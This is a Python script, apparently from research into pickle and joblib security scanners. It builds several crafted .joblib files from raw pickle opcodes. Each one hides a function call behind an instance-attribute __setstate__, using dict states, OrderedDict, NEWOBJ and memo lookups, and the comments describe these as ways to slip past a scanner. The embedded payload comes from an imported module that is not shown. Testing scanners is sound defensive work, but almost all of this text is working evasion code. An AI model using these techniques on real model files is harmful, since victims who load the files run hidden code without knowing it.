# Variants of d1 (hidden call through an instance attribute __setstate__):
#  d1b: the attribute set by a DICT state {'__setstate__': F} (it lands in X.__dict__).
#  d1c: X = collections.OrderedDict(), which the scanner folds into a plain dict.
#  d1d: X made by NEWOBJ (argparse.Namespace.__new__).
#  d1e: the shape-state is a dict S = {'shape': (200,)} emptied by F = collections.UserDict.clear (MutableMapping.clear: popitem until empty, works on a plain dict)
#       (protocol 4 dotted name); the wrapper's __init__ says (100,).
#  d1f: the dict-state key '__setstate__' comes from the memo (BINGET) instead of a literal.
from common import *
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
tail = b'0' + PAYLOAD + b'.'
def body(j, s):
    arr = bytearray(max(j, s) + 1); arr[j:j+len(tail)] = tail
    arr[0:5] = T(s - 5); arr[s] = ord('.')
    return bytes(arr)
W = lambda shp: G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + shp + U('C') + dtype('u1') + b'\x89NtR'
F = G('heapq','heappop')
L = b']' + BINPUT(1) + I(2) + b'a' + I(200) + b'a' + b'0'
NS = G('argparse','Namespace') + b')R'
def mk(X, setattr_state, proto=b'\x80\x02', pre=b''):
    return proto + pre + L + X + setattr_state + b'b' + BINGET(1) + b'b0' + W(BINGET(1)) + b'}b' + body(200, 400)
run('d1b.joblib', mk(NS, b'}' + U('__setstate__') + F + b's'))
run('d1c.joblib', mk(G('collections','OrderedDict') + b')R', b'N}' + U('__setstate__') + F + b's\x86'))
run('d1d.joblib', mk(G('argparse','Namespace') + b')\x81', b'N}' + U('__setstate__') + F + b's\x86'))
run('d1f.joblib', mk(NS, b'}' + BINGET(9) + F + b's', pre=U('__setstate__') + BINPUT(9) + b'0'))
hdr = b'\x80\x04' + b'}' + BINPUT(1) + U('shape') + I(200) + b'\x85s0'
hdr += NS + b'N}' + U('__setstate__') + G('collections', 'UserDict.clear') + b's\x86b' + BINGET(1) + b'b0'
hdr += W(I(100) + b'\x85') + BINGET(1) + b'b'
run('d1e.joblib', hdr + body(100, 200))
